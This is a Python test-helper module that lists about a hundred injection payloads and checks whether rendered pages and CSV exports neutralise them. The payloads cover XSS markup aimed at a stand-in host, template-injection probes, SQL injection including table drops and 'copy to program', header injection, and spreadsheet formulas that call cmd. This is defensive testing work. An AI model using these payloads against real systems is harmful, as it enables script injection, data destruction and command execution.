"""A hundred hostile texts, and what a page must not hold once they were typed into it."""

import csv
import io
import json
import re

from lxml import html

from core.text import clean_text

WON = "54173879"
"""What arithmetic in a payload would come to if anything evaluated it."""
MARK = "pwn"
"""Part of the name of every element and attribute that a payload tries to make."""
MARKUP = (
    "<script>pwn(1)</script>",
    "</script><script>pwn(2)</script>",
    "<img src=x onerror=pwn(3) data-pwn>",
    "\"><img src=x onerror=pwn(4) data-pwn>",
    "'><svg data-pwn onload=pwn(5)>",
    "<svg data-pwn><script>pwn(6)</script></svg>",
    "<svg data-pwn><animate onbegin=pwn(7) attributeName=x dur=1s>",
    "<body onload=pwn(8) data-pwn>",
    "<iframe src=javascript:pwn(9) data-pwn></iframe>",
    "<iframe srcdoc='<script>pwn(10)</script>' data-pwn>",
    "<object data=javascript:pwn(11) data-pwn>",
    "<embed src=//pwn.test/x data-pwn>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn(12) data-pwn>",
    "<a href=javascript:pwn(13) data-pwn>here</a>",
    "<a href='data:text/html,<script>pwn(14)</script>' data-pwn>here</a>",
    "<form action=//pwn.test data-pwn><button>Sign in</button></form>",
    "<input autofocus onfocus=pwn(15) data-pwn>",
    "<details open ontoggle=pwn(16) data-pwn>",
    "<video><source onerror=pwn(17) data-pwn></video>",
    "<style>@import '//pwn.test/x.css'</style><b data-pwn>",
    "<link rel=stylesheet href=//pwn.test/x.css data-pwn>",
    "<base href=//pwn.test/ data-pwn>",
    "<meta http-equiv=refresh content='0;url=//pwn.test' data-pwn>",
    "<div hx-get=//pwn.test hx-trigger=load data-pwn>",
    "<div hx-on:load='pwn(18)' data-pwn>",
    "</textarea><script>pwn(19)</script>",
    "</title><script>pwn(20)</script>",
    "</option></select><img src=x onerror=pwn(21) data-pwn>",
    "<!--><img src=x onerror=pwn(22) data-pwn>-->",
    "<![CDATA[><img src=x onerror=pwn(23) data-pwn>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwn(24) data-pwn>\">",
    "<template><img src=x onerror=pwn(25) data-pwn></template>",
    "<pwn-element>x</pwn-element>",
    "\" autofocus onfocus=pwn(26) data-pwn=\"",
    "' onmouseover='pwn(27)' data-pwn='",
    "` onmouseover=pwn(28) data-pwn=`",
    "x onmouseover=pwn(29) data-pwn=",
    "&lt;script&gt;pwn(30)&lt;/script&gt;",
    "&#60;img src=x onerror=pwn(31) data-pwn&#62;",
    "\\u003cimg src=x onerror=pwn(32) data-pwn\\u003e",
    "%3Cscript%3Epwn(33)%3C/script%3E",
    "＜script＞pwn(34)＜/script＞",
    "<scr<script>ipt>pwn(35)</scr</script>ipt>",
    "<ScRiPt>pwn(36)</sCrIpT>",
    "<img/src=x/onerror=pwn(37)/data-pwn>",
    "<<b data-pwn>b</b>",
    "};pwn(38);//",
    "\");pwn(39);//",
    "</script><!--<script>pwn(40)",
    "--></script><b data-pwn>",
)  # fmt: skip
TEMPLATES = (
    "{{7919*6841}}",
    "${7919*6841}",
    "#{7919*6841}",
    "<%= 7919*6841 %>",
    "{% print(7919*6841) %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{0.__class__.__init__.__globals__}",
    "{title} {n} {day} {}",
    "%(name)s %(n)s %s %d 100%",
    "{{BRAND}} {{config}} {#",
)
QUERIES = (
    "'; drop table users; --",
    "' or '1'='1",
    "\" or \"\"=\"",
    "1; select pg_sleep(10)",
    "') union select password_hash from users --",
    "\\'; copy users to program 'id'; --",
    "%' and 1=1 and '%'='",
    "_%_%",
)  # fmt: skip
SIGNS = (
    "plain \u202edesrever\u202c words",
    "\u202eunclosed",
    "\u2067isolated \u2066\u2066",
    "zero\u200bwidth\u200djoin\ufeff",
    "Z\u0351\u036b\u0343a\u0358\u0342\u033dl\u0317\u0318g\u031ao",
    "nul\x00nul",
    "bell\x07 escape\x1b[31mred\x1b[0m",
    "line\u2028and\u2029paragraph",
    "\r\nSet-Cookie: pwn=1",
    "x\r\nLocation: //pwn.test\r\n\r\n<script>pwn(41)</script>",
    "lone\ud800surrogate",
    "tags\U000e0041\U000e0042",
    "\uffff\ufffe\U0010ffff",
    "👩‍👩‍👧‍👦🏳️‍🌈é",
)
LINKS = (
    "[a](javascript:pwn(42))",
    "![a](//pwn.test/x.png)",
    "[a](<javascript:pwn(43)>) <javascript:pwn(44)>",
    "`<b data-pwn>` **b** ~~~html <b data-pwn>",
    "<@U123> <!channel> <https://pwn.test|Sign in> *b* :tada:",
    "&lt;!here&gt; <mailto:pwn@pwn.test|write>",
)
FIRST = (
    "javascript:pwn(45)",
    "JaVaScRiPt:pwn(46)",
    "java\tscript:pwn(47)",
    "data:text/html,<script>pwn(48)</script>",
    "//pwn.test/x",
    "=HYPERLINK(\"//pwn.test\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|'x'!A0",
    "@SUM(1+1)*cmd|'x'!A0",
)  # fmt: skip
"""These do harm only at the beginning of a field."""
LONG = (
    "A" * 70_000,
    "<b data-pwn>" * 4_000,
    "wide" * 300 + "\u0300" * 2_000,
)
PAYLOADS = (*MARKUP, *TEMPLATES, *QUERIES, *SIGNS, *LINKS, *FIRST, *LONG)
_SAFE = re.compile(r"[/?#](?!/)|https?://|mailto:|[\w.%?=&+-]*$", re.IGNORECASE)
_LEADS = (
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "hx-get",
    "hx-post",
    "data",
    "poster",
)
_FOREIGN = ("iframe", "object", "embed", "base", "frame", "style", "math", "animate", "applet")


def bundles(limit: int) -> list[str]:
    """All payloads as texts of at most `limit` characters where they fit; each in one of them."""
    made = [""]
    for each in (*MARKUP, *TEMPLATES, *QUERIES, *SIGNS, *LINKS):
        joined = f"{made[-1]} {each}".strip(" ")
        if made[-1] and len(joined) > limit:
            made.append(each)
        else:
            made[-1] = joined
    return [*made, *FIRST, *LONG]


def faults(page: str) -> list[str]:
    """What a payload made of a page: elements, attributes, addresses, results of arithmetic."""
    found = [f"evaluated: {WON}"] if WON in page else []
    found += [f"as it was typed: {each}" for each in MARKUP if "<" in each and each in page]
    for one in html.document_fromstring(page).iter():
        if not isinstance(one.tag, str):
            found += [f"comment {one.text}"] if MARK in (one.text or "") else []
            continue
        found += _of_element(one)
    return found


def _of_element(one: html.HtmlElement) -> list[str]:
    found = [one.tag] if MARK in one.tag or one.tag in _FOREIGN else []
    if one.tag == "script" and not one.get("src"):
        if one.get("type") != "application/json":
            found.append(f"script {one.text}")
        else:
            json.loads(one.text or "null")
    for name, value in one.attrib.items():
        if MARK in name or name.startswith(("on", "hx-on")) or name in ("style", "srcdoc"):
            found.append(f"<{one.tag} {name}={value[:80]}>")
        if name in _LEADS and not _leads_home(one, value):
            found.append(f"<{one.tag} {name}={value[:80]}>")
    if one.tag == "meta" and one.get("http-equiv") and not one.get("content", "").isdigit():
        found.append(f"<meta {one.get('content')}>")
    return found


def _leads_home(one: html.HtmlElement, value: str) -> bool:
    """Whether an address is one of ours, or a plain link that somebody must click."""
    if one.tag == "a":
        return bool(_SAFE.match(value))
    return value.startswith(("/", "?", "#")) and not value.startswith("//")


def words(page: str) -> str:
    """What a reader reads on a page, in fields too."""
    tree = html.document_fromstring(page)
    return plain("\n".join([tree.text_content(), *tree.xpath("//input/@value")]))


def plain(text: str) -> str:
    """A text as a page shows it: in one piece, without what no store keeps."""
    return " ".join(clean_text(text).split())


def formulas(table: str) -> list[str]:
    """Cells of a CSV file that a spreadsheet would take for a formula."""
    cells = [cell for row in csv.reader(io.StringIO(table)) for cell in row]
    leads = ("=", "+", "-", "@", "\t", "\r")
    return [each[:80] for each in cells if each.startswith(leads) and not _is_number(each)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
